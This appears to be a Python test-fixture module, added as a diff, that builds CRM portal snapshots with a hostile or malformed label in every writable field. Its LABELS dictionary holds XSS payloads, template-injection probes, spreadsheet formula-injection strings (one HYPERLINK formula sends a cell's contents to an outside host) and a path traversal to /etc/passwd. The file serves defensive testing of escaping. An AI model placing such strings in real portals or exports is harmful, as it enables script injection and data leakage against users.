@@ -1,0 +1,138 @@
+"""Labels somebody may write into a portal to break a file or to fool its reader."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+from shared.domain.snapshot import Snapshot
+from tests.builders import (
+    a_department,
+    a_dictionary,
+    a_dictionary_item,
+    a_list_field,
+    a_list_value,
+    a_pipeline,
+    a_smart_process,
+    a_snapshot,
+    a_stage,
+    a_success_stage,
+    a_user,
+    a_user_field,
+)
+
+LABELS = {
+    "image": "<img src=x onerror=alert(1)>",
+    "script": "</script><script>alert(1)</script>",
+    "attribute": '" onmouseover=alert(1) x="',
+    "scheme": "javascript:alert(1)",
+    "template": "{{7*7}} ${7*7} {0} {name}",
+    "printf": "%s%n",
+    "hyperlink": '=HYPERLINK("http://e/?"&A1,"x")',
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1)",
+    "tab and formula": "\t=1",
+    "break and formula": "\r=1",
+    "space and formula": "  =1+1",
+    "full-width formula": "＝1+1",
+    "full-width plus": "＋1",
+    "table rule": "|---|",
+    "cell end": "a|b\\|c",
+    "link": "[x](javascript:1)",
+    "picture": "![](https://e/b.png)",
+    "heading": "# h",
+    "emphasis": "*a* _b_ `c` ~~d~~ <http://e>",
+    "entity": "&lt;b&gt; &#60;",
+    "line breaks": "a\nb\r\nc\rd\u2028e\u2029f\x0bg\x0ch\x85i",
+    "another row": "x\n  7  UF_CRM_FAKE            ufCrmFake   9  string  --  Fake",
+    "looks like a row": "7  UF_CRM_FAKE",
+    "looks like a code": "UF_CRM_FAKE",
+    "only digits": "42",
+    "columns": "Name        SUCCESS     #7BD500",
+    "more values": "A* | 99 B",
+    "default": "A*",
+    "NUL": "a\x00b",
+    "bidi override": "abc\u202edef\u202c",
+    "bidi isolate": "\u2066abc\u2069",
+    "zero width": "a\u200bb\ufeffc\u2060d",
+    "soft hyphen": "a\u00adb",
+    "filler": "\u3164\u2800",
+    "lone surrogate": "a\ud800b",
+    "ANSI": "\x1b[2J\x1b[31mred",
+    "bell and backspace": "a\x07\x08\x08b",
+    "C1": "a\x9bb",
+    "noncharacter": "a\uffff\ufffeb",
+    "private use": "a\ue000b",
+    "damaged": "a\ufffdb",
+    "endless": "x" * 40_000,
+    "endless in words": "слово " * 7_000,
+    "endless and wide": "中" * 10_000,
+    "endless marks": "\u0301" * 10_000,
+    "emoji": "👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈",
+    "composed": "\u0439",
+    "decomposed": "и\u0306",
+    "Arabic": "طريقة التسليم",
+    "path": "../../etc/passwd",
+    "device": "CON",
+    "brackets": "[Архив]",
+    "slash": "Продажи/2025",
+    "quotes": "\"'«»“”`",
+    "case": "бюджет",
+    "other case": "Бюджет",
+    "apostrophe": "'=1",
+    "empty": "",
+    "blank": "   ",
+    "separator": 'a;b,c\td"e',
+    "CDATA": "]]>",
+    "comment": "-->",
+    "sheet": "a:b\\c/d?e*f[g]h" * 5,
+    "escape of the spreadsheet": "_x000D_",
+}
+
+
+def labelled(label: str) -> Snapshot:
+    """A portal with this label in every place where somebody can write one."""
+    process = a_smart_process(title=label)
+    long_list = a_list_field(
+        *([label] * 51), entity_type=process.key, id=902, code="UF_CRM_7_LONG", api_name="ufCrm7Long"
+    )
+    return a_snapshot(
+        entity_types=(*a_snapshot().entity_types, process),
+        pipelines=(
+            a_pipeline(name=label),
+            a_pipeline(id=3, name=label, directory="DEAL_STAGE_3", is_default=False),
+        ),
+        stages=(a_stage(name=label, color=label), a_success_stage(name=label)),
+        dictionaries=(a_dictionary(name=label, items=(a_dictionary_item(name=label),)),),
+        user_fields=(
+            a_user_field(labels={"ru": label}),
+            a_user_field(id=502, code="UF_CRM_2", api_name="ufCrm2", type=label, labels={"ru": label}),
+            a_list_field(label, label, id=503, code="UF_CRM_3", api_name="ufCrm3", labels={"ru": label}),
+            a_user_field(id=504, code="UF_CRM_4", type="crm_status", settings={"ENTITY_TYPE": label}),
+            a_user_field(id=505, code="UF_CRM_5", type="iblock_element", settings={"IBLOCK_ID": label}),
+            a_user_field(id=506, code="UF_CRM_6", type="crm", settings={label: "Y"}),
+            a_user_field(id=901, entity_type=process.key, code="UF_CRM_7_A", labels={"ru": label}),
+            long_list,
+        ),
+        users=(a_user(name=label, position=label), a_user(id=13, name=label, active=False)),
+        departments=(a_department(name=label, head_id=13),),
+        orphan_stages=(a_stage(id=900, directory="DEAL_STAGE_9", pipeline_id=9, name=label),),
+    )
+
+
+def coded(code: str) -> Snapshot:
+    """A portal in which everything with a code of its own has this one."""
+    snapshot = a_snapshot()
+    return replace(
+        snapshot,
+        stages=(a_stage(status_id=code), a_success_stage(status_id=code, directory=code)),
+        dictionaries=(a_dictionary(directory=code, items=(a_dictionary_item(status_id=code),)),),
+        user_fields=(
+            a_user_field(code=f"UF_{code}", api_name=f"uf{code}"),
+            a_list_field("A", id=502, code=f"UF_{code}2", api_name=code),
+        ),
+    )
+
+
+def a_value_field(**changes: object) -> Snapshot:
+    return a_snapshot(user_fields=(a_list_field(values=(a_list_value(**changes),)),))
